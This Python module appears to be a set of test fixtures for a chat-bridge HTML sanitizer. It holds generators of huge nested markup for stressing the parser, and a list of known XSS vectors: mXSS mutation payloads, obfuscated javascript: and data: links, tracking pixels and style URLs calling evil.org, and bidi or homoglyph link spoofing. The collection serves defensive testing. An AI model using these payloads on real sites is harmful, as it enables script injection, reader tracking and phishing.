"""What somebody may send who means harm: markup by its trick, whatever its size."""

from __future__ import annotations

from collections.abc import Callable

Maker = Callable[[int], str]
"""Markup of about so many characters."""


def times(piece: str, *, before: str = "", after: str = "x") -> Maker:
    return lambda size: before + piece * (size // len(piece)) + after


def _numbered(piece: str, *, before: str = "", between: str = "", after: str = "x") -> Maker:
    def made(size: int) -> str:
        count = size // (2 * len(piece.format(0)))
        pieces = "".join(piece.format(n) for n in range(count))
        return before + pieces + between + "<p>x</p>" * (size // 16) + after

    return made


HUGE: dict[str, Maker] = {
    "nested divs": times("<div>"),
    "nested styles": times("<b>"),
    "nested styles with attributes": _numbered("<b id={}>"),
    "nested quotes": times("<blockquote>"),
    "nested quotes with lines": lambda size: "<blockquote>" * 90 + "x<br>" * (size // 5),
    "nested lists": times("<ul><li>"),
    "nested lists with lines": lambda size: "<ul><li>" * 45 + "x<br>" * (size // 5),
    "nested tables": times("<table><tr><td>"),
    "nested links": times("<a href=https://e.com/>"),
    "nested replies": times("<mx-reply>", after="</mx-reply>x"),
    "nested forms": times("<form>"),
    "nested svg": times("<svg>"),
    "unknown elements": times("<x-y>"),
    "attributes": lambda size: "<p " + " ".join(f"a{n}=1" for n in range(size // 8)) + ">x",
    "attributes behind a quoted angle": lambda size: (
        "<p a='>' " + " ".join(f"a{n}=1" for n in range(size // 8)) + ">x"
    ),
    "one long attribute": lambda size: f'<p title="{"x" * size}">x',
    "a quote that never ends": times("<a href='", before="x"),
    "styles opened again in every paragraph": _numbered("<b id={}>", before="<p>", between="</p>"),
    "the same behind quoted angles": _numbered("<b/id={} a='>'>", before="<x a='>'><p>"),
    "the same, closed crosswise": times("<b id=1><i id=2></b></i>"),
    "styles that end in every block": times("<div></b>", before="<b><i><u><s>"),
    "crossed tags": times("<b><p></b>"),
    "text in a table": times("x<b></b>", before="<table>"),
    "rules in a table": times("<hr>", before="<table>"),
    "rows without a table": times("<tr><td>"),
    "cells that end nothing": times("</td></tr>"),
    "ends of nothing": times("</b>"),
    "ends of paragraphs": times("</p>"),
    "items at the depth": times("<li>x</li>", before="<ul>" + "<div>" * 96),
    "line breaks": times("<br>"),
    "paragraphs that nobody closes": times("<p>"),
    "alternating styles": times("<b>a</b><i>b</i>"),
    "coloured letters": times('<span style="color:red">a</span>'),
    "coloured differently": _numbered('<i style="color:#{:06x}">a</i>'),
    "mentions": times('<at id="0">a</at> '),
    "unfinished tags": times("<a ", before="x"),
    "unfinished ends": times("</a ", before="x"),
    "lone angles": times("<"),
    "ampersands": times("&"),
    "entities": times("&lt;"),
    "entities that are none": times("&notit;"),
    "entities that do not end": times("&notit"),
    "spaces": lambda size: "x" + " " * size + "\n" * 1000,
    "empty lines": times("\n \n", before="x"),
    "unfinished comments": times("<!--", before="x"),
    "comments": times("<!-- x -->"),
    "tags hidden in comments": times("<div><!--</div>-->"),
    "scripts": times("<script>x</script>"),
    "an unfinished script": times("<b>", before="x<script>"),
    "raw text": times("<textarea><b></textarea>"),
    "one letter a line": times("<div>x</div>"),
    "code": times("x\n", before="<pre>"),
    "code within a line": times("<code>x</code> "),
    "control characters": times("\x00\x01\u202e"),
    "halves of characters": times("\ud800a"),
    "letters of several code points": times("e\u0301\u200d"),
    "one long word": times("x"),
    "nested spoilers": times("<span data-mx-spoiler>x"),
    "words in nested spoilers": lambda size: (
        "<span data-mx-spoiler><b>" * 45 + "x<i>y</i>" * (size // 9)
    ),
    "formulas in each other": times("<span data-mx-maths=x>"),
    "links in a spoiler": times("<a href=https://e.com>x</a>", before="<span data-mx-spoiler>"),
}

TRICKS = [
    # What mutates when it is parsed twice (mXSS), as published for DOMPurify, Google Search, ammonia.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>">',
    '<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></desc></svg>',
    '<select><style><!--</style><a rel="--&gt;&lt;/style&gt;&lt;/select&gt;&lt;img id=x src=1 onerror=alert(1)&gt;">',
    '<table><math><select><mglyph><style><math href="javascript:alert(1)">x</math></style></select></math></table>',
    "<a href='x`onclick=alert(1)//'>x</a>",
    "<b title='`<img src=x onerror=alert(1)>'>x</b>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    # Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='JAVASCRIPT://e.com/%0aalert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://e.com/x'>x</a>",
    "<a href='https://e.com/\"onmouseover=\"alert(1)'>x</a>",
    "<a href='https://e.com' target=_blank rel=opener ping=https://evil.org>x</a>",
    # Images that count who reads, and styles that load.
    "<img src=https://evil.org/pixel.gif width=1 height=1>",
    "<img src=//evil.org/pixel.gif>",
    "<img srcset='https://evil.org/1x 1x' src=mxc://h.org/x>",
    "<img src='mxc://h.org/x?https://evil.org'>",
    "<img src='mxc://h.org/../../evil'>",
    "<img lowsrc=https://evil.org dynsrc=https://evil.org>",
    "<span style='background-image:url(https://evil.org/x)'>x</span>",
    "<span style='color:red;background:url(https://evil.org/x)'>x</span>",
    "<span style='color:expression(alert(1))'>x</span>",
    "<span style='width:expression(alert(1));behavior:url(x.htc)'>x</span>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<font color='red\" onclick=\"alert(1)'>x</font>",
    "<customemoji alt='\"><img src=x onerror=alert(1)>' source='https://evil.org/x'></customemoji>",
    "<video src=https://evil.org/v poster=https://evil.org/p autoplay onloadstart=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<link rel=stylesheet href=https://evil.org><base href=https://evil.org/>",
    "<meta http-equiv=refresh content='0;url=https://evil.org'>",
    "<object data=https://evil.org></object><embed src=https://evil.org>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    # Markers of ours and theirs.
    "<div data-bridge-trace='x'>x</div>",
    "<at id='0\"><script>alert(1)</script>'>x</at>",
    "<attachment id='\"><script>alert(1)</script>'></attachment>",
    "<codeblock class='\"><script>alert(1)</script>'><code>x</code></codeblock>",
    "<pre class='language-\"><script>alert(1)</script>'>x</pre>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</li></ol>",
    "<mx-reply><a href=https://e.com>x</a></mx-reply>y",
    # Directions, and what cannot be seen.
    "<a href=https://evil.org>\u202emoc.knab\u202c</a>",
    "<a href=https://evil.org>\u2067https://bank.com\u2069</a>",
    "<a href=https://evil.org>https://ba\u200bnk.com</a>",
    "<a href=https://evil.org>\uff48\uff54\uff54\uff50\uff53://bank.com</a>",
    "a\u202egnp.exe",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x00script>alert(1)</script>",
    "\ud83d<b>\ude00</b>",
]
"""Markup that has fooled somebody."""
